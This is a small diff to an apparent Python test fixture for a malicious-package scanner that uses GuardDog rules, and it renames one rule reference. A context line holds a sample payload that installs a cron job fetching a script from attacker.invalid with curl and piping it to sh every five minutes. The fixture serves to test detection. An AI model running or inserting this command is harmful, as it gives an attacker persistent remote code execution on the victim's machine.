@@ -768,7 +768,7 @@ MORE: dict[str, tuple[dict[str, str], str]] = {
         init(
             "import os\nos.system(\"(crontab -l; echo '*/5 * * * * curl -s https://attacker.invalid/c | sh') | crontab -\")\n"
         ),
-        GUARDDOG.format(rule="threat-process-schedule"),
+        GUARDDOG.format(rule="threat-process-schedule.yar"),
     ),
     "hosts-file-blocks-av-updates": (
         init(
